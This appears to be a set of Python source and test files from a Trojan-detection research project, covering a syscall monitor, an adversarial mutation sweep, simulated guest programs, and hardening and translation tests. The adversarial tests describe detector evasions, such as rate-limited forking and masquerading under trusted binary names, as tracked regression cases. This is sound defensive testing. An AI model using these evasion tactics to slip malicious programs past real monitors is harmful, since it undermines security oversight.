            ).inc()

    # -- end-of-run state sampling ------------------------------------------
    def sample_state_gauges(self) -> None:
        """Record the monitor's state footprint as gauges.

        Called once per run (cheap relative to the run itself): tainted
        shadow cells, live taint-set cardinality, and application
        basic-block totals across every process the kernel still knows.
        """
        m = self._metrics
        if m is None or self.kernel is None:
            return
        tainted_cells = 0
        shadow_pages = 0
        tag_sets = set()
        max_cardinality = 0
        bb_executions = 0
        app_blocks = 0
        for proc in self.kernel.procs.values():
            shadow = proc.meta.get(_SHADOW_KEY)
            if shadow is None:
                continue
            page_stats = shadow.memory.page_stats()
            tainted_cells += page_stats["cells"]
            shadow_pages += page_stats["pages"]
            for _, tags in shadow.memory.live_cells():
                tag_sets.add(tags)
                if len(tags) > max_cardinality:
                    max_cardinality = len(tags)
            bb_executions += sum(shadow.bb_counts.values())
            app_blocks += len(shadow.bb_counts)
        m.gauge("harrier_tainted_memory_cells").set(tainted_cells)
        m.gauge("harrier_shadow_pages_live").set(shadow_pages)
        m.gauge("harrier_taint_sets_live").set(len(tag_sets))
        m.gauge("harrier_taint_set_max_cardinality").set(max_cardinality)
        m.gauge("harrier_bb_executions").set(bb_executions)
        m.gauge("harrier_app_basic_blocks").set(app_blocks)
        m.gauge("harrier_fastpath_blocks").set(self.fastpath_blocks)
        m.gauge("harrier_slowpath_blocks").set(self.slowpath_blocks)
        if self._prov is not None:
            self._prov.sample_gauges(m)

    # -- process lifecycle -------------------------------------------------------
    def on_fork(self, parent: Process, child: Process) -> None:
        parent_shadow = self.shadow(parent)
        child.meta[_SHADOW_KEY] = parent_shadow.copy_for_fork()

    def on_exec(self, proc: Process, path: str) -> None:
        self.shadow(proc).reset_for_exec()

    # -- inspection ---------------------------------------------------------------
    def events_named(self, call_name: str) -> List[SecurityEvent]:
        return [e for e in self.events if e.call_name == call_name]
