"""The adversarial sweep: planning, scoring, determinism, and the
filed-evasion contract of the adversarial registry."""

import json

import pytest

from repro.advers import (
    SEVERITY,
    PlannedVariant,
    default_parents,
    plan_sweep,
    run_sweep,
)
from repro.api import Session, sweep
from repro.programs.mutate import MUTATION_CLASSES
from repro.programs.registry import registry_workloads


class TestPlanning:
    def test_default_parents_are_all_trojans(self):
        parents = default_parents()
        assert len(parents) >= 17
        assert "superforker" in parents and "pma" in parents
        assert "ls" not in parents  # trusted rows contribute nothing

    def test_grid_shape_and_refs(self):
        plan = plan_sweep(
            parents=["Hardcode", "grabem"], per_class=3, seed=10
        )
        assert len(plan) == 2 * len(MUTATION_CLASSES) * 3
        first = plan[0]
        assert isinstance(first, PlannedVariant)
        assert first.ref.module == "repro.programs.mutate"
        assert first.ref.params == ("Hardcode", "rename-labels", 10)
        # Every ref resolves to a workload named like the ref.
        resolved = first.ref.resolve()
        assert resolved.name == first.ref.name
        assert resolved.expected_verdict.value == first.expected_verdict

    def test_seeds_advance_within_a_class(self):
        plan = plan_sweep(parents=["Hardcode"],
                          classes=["deadcode"], per_class=4, seed=2)
        assert [p.seed for p in plan] == [2, 3, 4, 5]

    def test_bad_inputs_rejected_up_front(self):
        with pytest.raises(ValueError, match="unknown mutation class"):
            plan_sweep(parents=["Hardcode"], classes=["nope"])
        with pytest.raises(LookupError):
            plan_sweep(parents=["not a row"])

    def test_severity_order_is_total(self):
        assert SEVERITY["benign"] < SEVERITY["low"] \
            < SEVERITY["medium"] < SEVERITY["high"]


class TestSweepExecution:
    def _sweep(self, **kwargs):
        kwargs.setdefault("parents", ["Hardcode", "tree forker"])
        kwargs.setdefault("classes", ["rename-labels", "deadcode"])
        kwargs.setdefault("per_class", 2)
        kwargs.setdefault("seed", 1)
        kwargs.setdefault("workers", 1)
        return run_sweep(**kwargs)

    def test_matrix_counts_and_rates(self):
        result = self._sweep()
        assert result.total == 8
        assert set(result.matrix) == {"rename-labels", "deadcode"}
        for cell in result.matrix.values():
            assert cell["total"] == 4
            assert cell["completed"] == 4
            assert cell["errors"] == 0
            assert cell["trojans"] == 4  # both parents are Trojans
        assert result.detection_rate == 1.0
        assert result.exact_rate == 1.0
        assert result.evasions == []

    def test_payload_is_deterministic_across_runs(self):
        a = self._sweep().to_json()
        b = self._sweep(workers=2, shard_by="interleave").to_json()
        assert a == b
        payload = json.loads(a)
        assert payload["config"]["variants"] == 8
        assert payload["benchmark"] == "adversarial_sweep"

    def test_api_sweep_entry_point(self):
        result = sweep(parents=["Hardcode"], classes=["substitute"],
                       per_class=1, workers=1)
        assert result.total == 1
        assert result.detection_rate == 1.0

    def test_render_report_mentions_the_matrix(self):
        text = self._sweep().render_report()
        assert "detection rate 100.0%" in text
        assert "rename-labels" in text and "deadcode" in text


class TestAdversarialRegistryContract:
    """Filed evasions: fixed rows classify, open (xfail) rows must
    still misclassify — a passing xfail means the fix landed and the
    row needs flipping."""

    def test_rows_split_by_xfail(self):
        rows = {w.name: w for w in registry_workloads("adversarial")}
        assert rows["masquerade libc hardcode"].xfail is False
        assert rows["slow-and-low forker"].xfail is True

    def test_fixed_rows_classify_exactly(self):
        session = Session()
        for w in registry_workloads("adversarial"):
            if w.xfail:
                continue
            report = session.run_workload(w)
            assert w.classified_correctly(report), (
                f"regression: {w.name} no longer classifies as "
                f"{w.expected_verdict.value}"
            )

    def test_open_rows_still_misclassify(self):
        session = Session()
        for w in registry_workloads("adversarial"):
            if not w.xfail:
                continue
            report = session.run_workload(w)
            assert not w.classified_correctly(report), (
                f"{w.name} now classifies correctly — its fix landed; "
                f"flip xfail=False to make it a regression row"
            )

    def test_slow_and_low_evades_only_the_rate_rule(self):
        from repro.programs.registry import get

        report = Session().run_workload(get("slow-and-low forker"))
        fired = {w.rule for w in report.warnings}
        assert "check_clone_count" in fired  # count rule still trips
        assert "check_clone_rate" not in fired  # the evasion
        assert report.verdict.value == "low"


class TestMasqueradeRegression:
    """The rename-paths evasion that produced Secpert.distrust: a
    Trojan installed under a trusted name must not inherit its trust."""

    def test_masquerade_as_every_trusted_name_still_detected(self):
        from dataclasses import replace

        from repro.programs.registry import get
        from repro.secpert.policy import PolicyConfig

        parent = get("masquerade libc hardcode")
        session = Session()
        for trusted in sorted(PolicyConfig().trusted_binaries):
            w = replace(
                parent,
                name=f"masquerade as {trusted}",
                program_path=trusted,
                argv=None,
            )
            report = session.run_workload(w)
            assert w.classified_correctly(report), (
                f"masquerading as {trusted} evaded check_execve"
            )

    def test_distrust_only_affects_the_target_name(self):
        """Trusted libc itself keeps its trust: a benign row linking
        against it stays benign (no new false positives)."""
        from repro.programs.registry import get

        report = Session().run_workload(get("ls"))
        assert report.verdict.value == "benign"
