"""Syscall behaviour tests via small guest programs (file I/O, process
management, sockets, FIFOs, errors)."""

from repro.core.report import Verdict
from repro.kernel.network import ConversationPeer, SinkPeer


class TestFileIO:
    def test_open_write_close_creates_file(self, guest):
        report = guest.run(
            r"""
main:
    mov ebx, path
    mov ecx, 0x241
    call open
    mov esi, eax
    mov ebx, esi
    mov ecx, msg
    call fputs
    mov ebx, esi
    call close
    mov eax, 0
    ret
.data
path: .asciz "/tmp/out"
msg: .asciz "written"
"""
        )
        assert report.exit_code == 0
        fs = guest.last_machine.fs
        assert fs.read_text("/tmp/out") == "written"

    def test_read_missing_file_returns_enoent(self, guest):
        report = guest.run(
            r"""
main:
    mov ebx, path
    mov ecx, 0
    call open
    mov ebx, eax
    call print_num
    mov eax, 0
    ret
.data
path: .asciz "/no/such/file"
"""
        )
        assert report.console_output == "-2"  # -ENOENT

    def test_append_mode(self, guest):
        def setup(hth):
            hth.fs.write_text("/tmp/log", "start;")

        report = guest.run(
            r"""
main:
    mov ebx, path
    mov ecx, 0x401          ; O_WRONLY|O_APPEND
    call open
    mov esi, eax
    mov ebx, esi
    mov ecx, msg
    call fputs
    mov ebx, esi
    call close
    mov eax, 0
    ret
.data
path: .asciz "/tmp/log"
msg: .asciz "more"
""",
            setup=setup,
        )
        assert guest.last_machine.fs.read_text("/tmp/log") == "start;more"

    def test_directory_read_gives_listing(self, guest):
        def setup(hth):
            hth.fs.write_text("visible.txt", "x")

        report = guest.run(
            r"""
main:
    mov ebx, dot
    mov ecx, 0
    call open
    mov esi, eax
    mov ebx, esi
    mov ecx, buf
    mov edx, 128
    call read
    mov edx, eax
    mov ebx, 1
    mov ecx, buf
    call write
    mov eax, 0
    ret
.data
dot: .asciz "."
buf: .space 128
""",
            setup=setup,
        )
        assert "visible.txt" in report.console_output

    def test_dup_shares_offset(self, guest):
        def setup(hth):
            hth.fs.write_text("/tmp/f", "abcdef")

        report = guest.run(
            r"""
main:
    mov ebx, path
    mov ecx, 0
    call open
    mov esi, eax
    mov ebx, esi
    call dup
    mov edi, eax
    ; read 3 via original, then 3 via dup - offsets are shared
    mov ebx, esi
    mov ecx, buf
    mov edx, 3
    call read
    mov ebx, edi
    mov ecx, buf2
    mov edx, 3
    call read
    mov ebx, 1
    mov ecx, buf2
    mov edx, 3
    call write
    mov eax, 0
    ret
.data
path: .asciz "/tmp/f"
buf: .space 8
buf2: .space 8
""",
            setup=setup,
        )
        assert report.console_output == "def"

    def test_unlink_and_chmod(self, guest):
        def setup(hth):
            hth.fs.write_text("/tmp/victim", "x")
            hth.fs.write_text("/tmp/tool", "x")

        guest.run(
            r"""
main:
    mov ebx, victim
    call unlink
    mov ebx, tool
    mov ecx, 0x1ed
    call chmod
    mov eax, 0
    ret
.data
victim: .asciz "/tmp/victim"
tool:   .asciz "/tmp/tool"
""",
            setup=setup,
        )
        fs = guest.last_machine.fs
        assert not fs.exists("/tmp/victim")
        assert fs.lookup("/tmp/tool").is_executable()


class TestProcesses:
    def test_fork_returns_pid_and_zero(self, guest):
        report = guest.run(
            r"""
main:
    call fork
    cmp eax, 0
    jz child
    mov ebx, parent_msg
    call print
    mov eax, 0
    ret
child:
    mov ebx, child_msg
    call print
    mov ebx, 0
    call exit
.data
parent_msg: .asciz "P"
child_msg: .asciz "C"
"""
        )
        assert sorted(report.console_output) == ["C", "P"]
        assert report.result.reason == "all-exited"

    def test_getpid_and_exit_code(self, guest):
        report = guest.run(
            r"""
main:
    call getpid
    mov ebx, eax
    call print_num
    mov eax, 42
    ret
"""
        )
        assert report.console_output == "1"
        assert report.exit_code == 42

    def test_execve_replaces_image(self, guest):
        target = r"""
main:
    mov ebx, msg
    call print
    mov eax, 0
    ret
.data
msg: .asciz "i am the target"
"""
        from repro.isa import assemble

        def setup(hth):
            hth.register_binary(assemble("/bin/target", target))

        report = guest.run(
            r"""
main:
    mov ebx, tgt
    mov ecx, 0
    mov edx, 0
    call execve
    ; never reached on success
    mov ebx, failmsg
    call print
    mov eax, 1
    ret
.data
tgt: .asciz "/bin/target"
failmsg: .asciz "exec failed"
""",
            setup=setup,
        )
        assert report.console_output == "i am the target"
        assert report.exit_code == 0

    def test_execve_missing_returns_enoent(self, guest):
        report = guest.run(
            r"""
main:
    mov ebx, tgt
    mov ecx, 0
    mov edx, 0
    call execve
    mov ebx, eax
    call print_num
    mov eax, 0
    ret
.data
tgt: .asciz "/bin/does_not_exist"
"""
        )
        assert report.console_output == "-2"

    def test_execve_non_program_file_enoexec(self, guest):
        def setup(hth):
            hth.fs.write_text("/tmp/script", "not a program", mode=0o755)

        report = guest.run(
            r"""
main:
    mov ebx, tgt
    mov ecx, 0
    mov edx, 0
    call execve
    mov ebx, eax
    call print_num
    mov eax, 0
    ret
.data
tgt: .asciz "/tmp/script"
""",
            setup=setup,
        )
        assert report.console_output == "-8"  # -ENOEXEC

    def test_execve_non_executable_eacces(self, guest):
        def setup(hth):
            hth.fs.write_text("/tmp/plain", "data", mode=0o644)

        report = guest.run(
            r"""
main:
    mov ebx, tgt
    mov ecx, 0
    mov edx, 0
    call execve
    mov ebx, eax
    call print_num
    mov eax, 0
    ret
.data
tgt: .asciz "/tmp/plain"
""",
            setup=setup,
        )
        assert report.console_output == "-13"  # -EACCES

    def test_time_advances(self, guest):
        report = guest.run(
            r"""
main:
    call time
    mov esi, eax
    mov ebx, 100
    call sleep
    call time
    sub eax, esi
    mov ebx, eax
    call print_num
    mov eax, 0
    ret
"""
        )
        assert int(report.console_output) >= 100


class TestSockets:
    def test_client_roundtrip(self, guest):
        def setup(hth):
            hth.network.add_peer(
                "echo.example", 7,
                lambda: ConversationPeer("echo", replies=[b"pong"]),
            )

        report = guest.run(
            r"""
main:
    mov ebx, host
    call gethostbyname
    mov ecx, eax
    call socket
    mov ebx, eax
    mov edx, 7
    push ebx
    call connect_addr
    pop ebx
    push ebx
    mov ecx, ping
    call fputs
    pop ebx
    mov ecx, buf
    mov edx, 16
    call read
    mov edx, eax
    mov ebx, 1
    mov ecx, buf
    call write
    mov eax, 0
    ret
.data
host: .asciz "echo.example"
ping: .asciz "ping"
buf: .space 16
""",
            setup=setup,
        )
        assert report.console_output == "pong"

    def test_connect_refused(self, guest):
        report = guest.run(
            r"""
main:
    call socket
    mov ebx, eax
    mov ecx, 0x7F000001
    mov edx, 12345
    call connect_addr
    mov ebx, eax
    call print_num
    mov eax, 0
    ret
"""
        )
        assert report.console_output == "-111"  # -ECONNREFUSED

    def test_resolve_unknown_host(self, guest):
        report = guest.run(
            r"""
main:
    mov ebx, host
    call gethostbyname
    mov ebx, eax
    call print_num
    mov eax, 0
    ret
.data
host: .asciz "unknown.example"
"""
        )
        assert report.console_output == "-113"  # -EHOSTUNREACH

    def test_server_accepts_scheduled_client(self, guest):
        def setup(hth):
            hth.network.schedule_connect(
                500, "LocalHost", 2222,
                ConversationPeer("client", opening=b"knock",
                                 close_when_done=False),
            )

        report = guest.run(
            r"""
main:
    call socket
    mov esi, eax
    mov ebx, esi
    mov ecx, 0x7F000001
    mov edx, 2222
    call bind_addr
    mov ebx, esi
    call listen
    mov ebx, esi
    call accept
    mov ebx, eax
    mov ecx, buf
    mov edx, 16
    call read
    mov edx, eax
    mov ebx, 1
    mov ecx, buf
    call write
    mov eax, 0
    ret
.data
buf: .space 16
""",
            setup=setup,
        )
        assert report.console_output == "knock"


class TestFifos:
    def test_fifo_roundtrip_between_processes(self, guest):
        report = guest.run(
            r"""
main:
    mov ebx, pipe_name
    call mkfifo
    call fork
    cmp eax, 0
    jz reader
    ; writer (parent)
    mov ebx, pipe_name
    mov ecx, 1              ; O_WRONLY
    call open
    mov esi, eax
    mov ebx, esi
    mov ecx, msg
    call fputs
    mov ebx, esi
    call close
    mov eax, 0
    ret
reader:
    mov ebx, pipe_name
    mov ecx, 0
    call open
    mov esi, eax
    mov ebx, esi
    mov ecx, buf
    mov edx, 16
    call read
    mov edx, eax
    mov ebx, 1
    mov ecx, buf
    call write
    mov ebx, 0
    call exit
.data
pipe_name: .asciz "/tmp/fifo"
msg: .asciz "through-pipe"
buf: .space 16
"""
        )
        assert report.console_output == "through-pipe"
        assert report.result.reason == "all-exited"


class TestStdio:
    def test_stdin_line_buffered(self, guest):
        report = guest.run(
            r"""
main:
    mov ebx, 0
    mov ecx, buf
    mov edx, 32
    call read
    mov edx, eax
    mov ebx, 1
    mov ecx, buf
    call write
    mov eax, 0
    ret
.data
buf: .space 32
""",
            stdin="line one\nline two\n",
        )
        assert report.console_output == "line one\n"

    def test_stdin_eof_returns_zero(self, guest):
        report = guest.run(
            r"""
main:
    mov ebx, 0
    mov ecx, buf
    mov edx, 8
    call read
    mov ebx, eax
    call print_num
    mov eax, 0
    ret
.data
buf: .space 8
"""
        )
        assert report.console_output == "0"

    def test_stderr_writes_captured(self, guest):
        report = guest.run(
            r"""
main:
    mov ebx, 2
    mov ecx, msg
    call fputs
    mov eax, 0
    ret
.data
msg: .asciz "error!"
"""
        )
        assert report.console_output == "error!"

    def test_bad_fd_returns_ebadf(self, guest):
        report = guest.run(
            r"""
main:
    mov ebx, 99
    mov ecx, buf
    mov edx, 4
    call read
    mov ebx, eax
    call print_num
    mov eax, 0
    ret
.data
buf: .space 4
"""
        )
        assert report.console_output == "-9"


class TestLseek:
    def test_seek_set_cur_end(self, guest):
        def setup(hth):
            hth.fs.write_text("/tmp/f", "0123456789")

        report = guest.run(
            r"""
main:
    mov ebx, path
    mov ecx, 0
    call open
    mov esi, eax
    ; SEEK_SET to 2
    mov ebx, esi
    mov ecx, 2
    mov edx, 0
    call lseek
    ; SEEK_CUR +3 -> 5
    mov ebx, esi
    mov ecx, 3
    mov edx, 1
    call lseek
    mov ebx, esi
    mov ecx, buf
    mov edx, 2
    call read
    mov edx, eax
    mov ebx, 1
    mov ecx, buf
    call write
    ; SEEK_END -1 -> last byte
    mov ebx, esi
    mov ecx, 0
    sub ecx, 1
    mov edx, 2
    call lseek
    mov ebx, esi
    mov ecx, buf
    mov edx, 4
    call read
    mov edx, eax
    mov ebx, 1
    mov ecx, buf
    call write
    mov eax, 0
    ret
.data
path: .asciz "/tmp/f"
buf: .space 8
""",
            setup=setup,
        )
        assert report.console_output == "569"

    def test_seek_errors(self, guest):
        report = guest.run(
            r"""
main:
    ; bad fd
    mov ebx, 77
    mov ecx, 0
    mov edx, 0
    call lseek
    mov ebx, eax
    call print_num
    mov ebx, sp_
    call print
    ; bad whence on a real fd
    mov ebx, path
    mov ecx, 0x241
    call open
    mov esi, eax
    mov ebx, esi
    mov ecx, 0
    mov edx, 9
    call lseek
    mov ebx, eax
    call print_num
    mov ebx, sp_
    call print
    ; negative resulting offset
    mov ebx, esi
    mov ecx, 0
    sub ecx, 5
    mov edx, 0
    call lseek
    mov ebx, eax
    call print_num
    mov eax, 0
    ret
.data
path: .asciz "/tmp/new"
sp_: .asciz " "
"""
        )
        assert report.console_output == "-9 -22 -22"
