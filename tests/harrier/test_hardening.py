"""Monitor hardening tests: exception containment in ``_dispatch``, the
bounded event log, first-kill veto semantics, and rule quarantine in the
inference engine."""

from repro.core import HTH, Verdict
from repro.expert import InferenceEngine, Pattern, Rule, Template
from repro.harrier import Harrier, HarrierConfig
from repro.harrier.analyzer import EventAnalyzer
from repro.harrier.monitor import MonitorFault
from repro.isa import assemble
from repro.secpert import Secpert


HELLO = """
main:
    mov ebx, msg
    call print
    mov eax, 0
    ret
.data
msg: .asciz "hello"
"""

# execve is always eventful (EXEC_BINARY), so this guest guarantees the
# analyzer actually sees something.
EXEC = """
main:
    mov ebx, prog
    mov ecx, 0
    mov edx, 0
    call execve
    mov eax, 0
    ret
.data
prog: .asciz "/bin/ls"
"""


class CrashingAnalyzer(EventAnalyzer):
    warnings = ()

    def analyze(self, event):
        raise ValueError("analyzer blew up")


class WarnEveryEvent(EventAnalyzer):
    def __init__(self):
        self.seen = []
        self.warnings = []

    def analyze(self, event):
        self.seen.append(event)
        warning = object()
        self.warnings.append(warning)
        return [warning]


class TestAnalyzerContainment:
    def test_crash_is_contained_and_recorded(self):
        h = Harrier(analyzer=CrashingAnalyzer())
        assert h._dispatch(["e1", "e2"]) is True
        assert len(h.monitor_faults) == 2
        fault = h.monitor_faults[0]
        assert isinstance(fault, MonitorFault)
        assert fault.stage == "analyze"
        assert fault.rule == "MONITOR_FAULT"
        assert "ValueError: analyzer blew up" in fault.error
        assert "MONITOR_FAULT/analyze" in fault.render()

    def test_rule_name_attribute_is_surfaced(self):
        class NamedCrash(EventAnalyzer):
            def analyze(self, event):
                exc = RuntimeError("rule died")
                exc.rule_name = "TrojanWrite"
                raise exc

        h = Harrier(analyzer=NamedCrash())
        h._dispatch(["e"])
        assert h.monitor_faults[0].rule == "TrojanWrite"

    def test_run_survives_crashing_analyzer(self):
        hth = HTH(analyzer=CrashingAnalyzer())
        report = hth.run(assemble("/bin/evil", EXEC))
        assert report.result.completed
        assert report.monitor_faults
        # Monitor faults must not move the verdict.
        assert report.verdict is Verdict.BENIGN
        assert report.degraded

    def test_healthy_run_is_not_degraded(self):
        report = HTH().run(assemble("/bin/hello", HELLO))
        assert not report.monitor_faults
        assert not report.degraded


class TestDecisionContainment:
    def test_crashing_decision_defaults_to_continue(self):
        def boom(warning):
            raise RuntimeError("decision crashed")

        analyzer = WarnEveryEvent()
        h = Harrier(analyzer=analyzer, decision=boom)
        assert h._dispatch(["e1", "e2"]) is True
        assert h.kills == []
        assert [f.stage for f in h.monitor_faults] == [
            "decision", "decision"
        ]


class TestFirstKillVeto:
    def test_dispatch_stops_at_first_kill(self):
        analyzer = WarnEveryEvent()
        h = Harrier(analyzer=analyzer, decision=lambda warning: False)
        assert h._dispatch(["e1", "e2", "e3"]) is False
        # The first kill vetoes the syscall; the batch's remaining
        # events describe a call that never executes.
        assert analyzer.seen == ["e1"]
        assert len(h.kills) == 1
        assert h.kills[0][0] == "e1"


class TestBoundedEventLog:
    def test_oldest_events_dropped_at_cap(self):
        h = Harrier(config=HarrierConfig(max_event_log=3))
        h._dispatch(["e1", "e2", "e3", "e4", "e5"])
        assert h.events == ["e3", "e4", "e5"]
        assert h.events_dropped == 2

    def test_zero_cap_drops_everything(self):
        h = Harrier(config=HarrierConfig(max_event_log=0))
        h._dispatch(["e1", "e2"])
        assert h.events == []
        assert h.events_dropped == 2

    def test_default_is_unbounded(self):
        h = Harrier()
        h._dispatch([f"e{i}" for i in range(100)])
        assert len(h.events) == 100
        assert h.events_dropped == 0

    def test_drop_counter_surfaces_in_report(self):
        # open + execve: two eventful syscalls against a one-slot log.
        src = """
main:
    mov ebx, hosts
    mov ecx, 0
    call open
    mov ebx, prog
    mov ecx, 0
    mov edx, 0
    call execve
    mov eax, 0
    ret
.data
hosts: .asciz "/etc/hosts"
prog: .asciz "/bin/ls"
"""
        hth = HTH(harrier_config=HarrierConfig(max_event_log=1))
        report = hth.run(assemble("/bin/evil", src))
        assert len(report.events) <= 1
        assert report.events_dropped > 0
        assert report.degraded


class TestRuleQuarantine:
    def make_engine(self):
        eng = InferenceEngine()
        eng.define_template(Template.define("item", "kind"))
        return eng

    def test_raising_rule_is_quarantined(self):
        eng = self.make_engine()
        fired = []
        eng.add_rule(
            Rule("bad", [Pattern("item")],
                 lambda ctx: (_ for _ in ()).throw(ValueError("boom")))
        )
        eng.add_rule(
            Rule("good", [Pattern("item")], lambda ctx: fired.append(1))
        )
        eng.assert_fact(eng.templates["item"].make(kind="a"))
        eng.run()
        assert "bad" in eng.quarantined
        assert "ValueError: boom" in eng.quarantined["bad"]
        assert fired == [1]

    def test_quarantined_rule_stops_matching(self):
        eng = self.make_engine()
        calls = []
        eng.add_rule(
            Rule("bad", [Pattern("item")],
                 lambda ctx: calls.append(1) or 1 / 0)
        )
        eng.assert_fact(eng.templates["item"].make(kind="a"))
        eng.run()
        eng.assert_fact(eng.templates["item"].make(kind="b"))
        eng.run()
        assert calls == [1]
        assert eng.agenda() == []

    def test_quarantine_survives_reset(self):
        eng = self.make_engine()
        eng.quarantined["bad"] = "ValueError: boom"
        eng.reset()
        assert eng.quarantined == {"bad": "ValueError: boom"}

    def test_secpert_exposes_quarantined_rules(self):
        secpert = Secpert()
        assert secpert.quarantined_rules == []
        secpert.engine.quarantined["SuspectExec"] = "KeyError: 'x'"
        assert secpert.quarantined_rules == ["SuspectExec"]

    def test_quarantined_rules_surface_in_report(self):
        hth = HTH()
        hth.secpert.engine.quarantined["Broken"] = "ValueError: x"
        report = hth.run(assemble("/bin/hello", HELLO))
        assert report.quarantined_rules == ["Broken"]
        assert report.degraded
