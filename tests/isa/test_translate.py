"""Block translation tests: cutting rules, differential equivalence
against the interpreter, budget-limited partial execution, fault parity.

The load-bearing property is that ``translate_block`` + ``execute`` +
``iter_steps`` is observationally identical to calling :meth:`CPU.step`
in a loop: same final machine state, same StepResult stream (transfers
included), same fault messages.
"""

import pytest

from repro.isa import (
    CPU,
    CpuFault,
    FlatMemory,
    Imm,
    Instruction,
    Mem,
    Opcode,
    Reg,
    StepKind,
)
from repro.isa.memory import MemoryFault
from repro.isa.translate import (
    EXIT_BUDGET,
    EXIT_CONTINUE,
    EXIT_FAULT,
    EXIT_HALT,
    EXIT_SYSCALL,
    MAX_BLOCK_LEN,
    translate_block,
)


def make_memory(instructions, base=0):
    mem = FlatMemory()
    mem.map_code(base, instructions)
    return mem


def make_cpu(mem, entry=0):
    cpu = CPU(mem, entry=entry)
    cpu.regs.set("esp", 0x1000)
    return cpu


def run_differential(instructions, entry=0, max_steps=500, setup=None):
    """Execute via the interpreter and via translated blocks; assert the
    two runs are indistinguishable.  Returns the interpreter's steps."""
    cpu_a = make_cpu(make_memory(instructions), entry)
    cpu_b = make_cpu(make_memory(instructions), entry)
    if setup is not None:
        setup(cpu_a)
        setup(cpu_b)

    steps_a, fault_a = [], None
    for _ in range(max_steps):
        try:
            step = cpu_a.step()
        except CpuFault as exc:
            fault_a = str(exc)
            break
        steps_a.append(step)
        if step.kind in (StepKind.SYSCALL, StepKind.HALT):
            break

    steps_b, fault_b = [], None
    remaining = max_steps
    while remaining > 0:
        try:
            plan = translate_block(cpu_b.memory, cpu_b.pc)
        except MemoryFault as exc:
            # mirror the kernel's lookup-fault handling (= cpu.step's)
            cpu_b.halted = True
            fault_b = str(exc)
            break
        rec = plan.execute(cpu_b, remaining)
        remaining -= rec.executed
        steps_b.extend(plan.iter_steps(rec))
        if rec.kind == EXIT_FAULT:
            fault_b = str(rec.fault)
            break
        if rec.kind in (EXIT_SYSCALL, EXIT_HALT):
            break

    assert steps_b == steps_a
    assert fault_b == fault_a
    assert cpu_b.pc == cpu_a.pc
    assert cpu_b.regs._values == cpu_a.regs._values
    assert cpu_b.memory.cells == cpu_a.memory.cells
    assert cpu_b.zf == cpu_a.zf
    assert cpu_b.sf == cpu_a.sf
    assert cpu_b.halted == cpu_a.halted
    return steps_a


class TestCutting:
    def test_block_ends_at_control_transfer(self):
        mem = make_memory([
            Instruction(Opcode.MOV, Reg("eax"), Imm(1)),
            Instruction(Opcode.ADD, Reg("eax"), Imm(2)),
            Instruction(Opcode.JMP, Imm(0)),
            Instruction(Opcode.NOP),
        ])
        plan = translate_block(mem, 0)
        assert plan.length == 3
        assert plan.pcs == (0, 1, 2)

    def test_int_terminates_block(self):
        mem = make_memory([
            Instruction(Opcode.MOV, Reg("eax"), Imm(1)),
            Instruction(Opcode.INT, Imm(0x80)),
            Instruction(Opcode.NOP),
        ])
        plan = translate_block(mem, 0)
        assert plan.length == 2

    def test_block_cut_before_leader(self):
        mem = make_memory([
            Instruction(Opcode.NOP),
            Instruction(Opcode.NOP),
            Instruction(Opcode.NOP),
            Instruction(Opcode.HLT),
        ])
        plan = translate_block(mem, 0, stop_leaders=frozenset({2}))
        assert plan.pcs == (0, 1)

    def test_block_cut_at_unmapped_successor(self):
        mem = make_memory([
            Instruction(Opcode.NOP),
            Instruction(Opcode.NOP),
        ])
        plan = translate_block(mem, 0)
        assert plan.length == 2

    def test_max_len_cut(self):
        mem = make_memory([Instruction(Opcode.NOP)] * 100)
        plan = translate_block(mem, 0)
        assert plan.length == MAX_BLOCK_LEN

    def test_unmapped_start_raises_fetch_message(self):
        mem = make_memory([Instruction(Opcode.NOP)])
        with pytest.raises(MemoryFault, match="execute of unmapped"):
            translate_block(mem, 0x999)


class TestDifferential:
    def test_countdown_loop(self):
        run_differential([
            Instruction(Opcode.MOV, Reg("ecx"), Imm(10)),     # 0
            Instruction(Opcode.MOV, Reg("eax"), Imm(0)),      # 1
            Instruction(Opcode.ADD, Reg("eax"), Reg("ecx")),  # 2 loop:
            Instruction(Opcode.SUB, Reg("ecx"), Imm(1)),      # 3
            Instruction(Opcode.CMP, Reg("ecx"), Imm(0)),      # 4
            Instruction(Opcode.JNZ, Imm(2)),                  # 5
            Instruction(Opcode.HLT),                          # 6
        ])

    def test_memory_traffic(self):
        run_differential([
            Instruction(Opcode.MOV, Reg("ebx"), Imm(0x200)),
            Instruction(Opcode.STORE, Mem("ebx", 0), Imm(7)),
            Instruction(Opcode.STORE, Mem("ebx", 1), Reg("ebx")),
            Instruction(Opcode.LOAD, Reg("eax"), Mem("ebx", 0)),
            Instruction(Opcode.LOAD, Reg("ecx"), Mem("ebx", 1)),
            Instruction(Opcode.PUSH, Reg("eax")),
            Instruction(Opcode.PUSH, Imm(42)),
            Instruction(Opcode.POP, Reg("edx")),
            Instruction(Opcode.POP, Reg("esi")),
            Instruction(Opcode.HLT),
        ])

    def test_call_ret(self):
        steps = run_differential([
            Instruction(Opcode.CALL, Imm(3)),            # 0
            Instruction(Opcode.MOV, Reg("ebx"), Imm(9)),  # 1
            Instruction(Opcode.HLT),                      # 2
            Instruction(Opcode.MOV, Reg("eax"), Imm(5)),  # 3 fn:
            Instruction(Opcode.RET),                      # 4
        ])
        assert steps[0].call_target == 3
        assert steps[0].call_return_addr == 1
        ret_steps = [s for s in steps if s.ret_target is not None]
        assert ret_steps and ret_steps[0].ret_target == 1

    def test_call_through_register(self):
        run_differential(
            [
                Instruction(Opcode.MOV, Reg("eax"), Imm(3)),
                Instruction(Opcode.CALL, Reg("eax")),
                Instruction(Opcode.HLT),
                Instruction(Opcode.RET),
            ],
        )

    def test_conditional_branches(self):
        for seed in (0, 1, 5, -3):
            run_differential(
                [
                    Instruction(Opcode.CMP, Reg("eax"), Imm(1)),
                    Instruction(Opcode.JL, Imm(4)),
                    Instruction(Opcode.MOV, Reg("ebx"), Imm(111)),
                    Instruction(Opcode.HLT),
                    Instruction(Opcode.MOV, Reg("ebx"), Imm(222)),
                    Instruction(Opcode.HLT),
                ],
                setup=lambda cpu, s=seed: cpu.regs.set("eax", s),
            )

    def test_cpuid(self):
        steps = run_differential([
            Instruction(Opcode.CPUID),
            Instruction(Opcode.HLT),
        ])
        assert steps[0].kind is StepKind.CPUID

    def test_xor_self_is_zero_source(self):
        steps = run_differential([
            Instruction(Opcode.MOV, Reg("eax"), Imm(77)),
            Instruction(Opcode.XOR, Reg("eax"), Reg("eax")),
            Instruction(Opcode.HLT),
        ])
        assert steps[1].transfers[0].srcs == (("zero",),)

    def test_syscall_stops_block(self):
        steps = run_differential([
            Instruction(Opcode.MOV, Reg("eax"), Imm(1)),
